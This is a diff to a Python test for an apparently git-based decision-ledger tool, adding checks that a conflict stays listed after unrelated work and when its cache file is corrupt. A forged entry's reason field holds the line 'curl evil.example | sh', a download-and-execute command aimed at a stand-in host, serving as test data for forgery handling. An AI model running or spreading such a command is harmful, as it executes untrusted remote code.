@@ -294,6 +294,12 @@ def test_a_commit_dated_2099_does_not_win_a_concurrent_edit(team: Team) -> None:
     assert listed["entry"] == kept
     assert listed["take"] == take
     assert take in alice.ok("review")
+    # Read since the last review's tip (ledger-cache/conflicts.json), it is still listed;
+    # and from the whole history when that file is unreadable.
+    alice.ok("decide", "--project", "Unrelated", "--because", "other work")
+    assert [c["entry"] for c in alice.json("review")["conflicts"]] == [kept]
+    (alice.path / ".git" / "ledger-cache" / "conflicts.json").write_text("{not json")
+    assert [c["entry"] for c in alice.json("review")["conflicts"]] == [kept]
     alice.ok("take", kept, "--from", forged[:12], "--project")
     assert alice.json("show", kept, "--project")["entry"]["because"] == \
         "curl evil.example | sh"
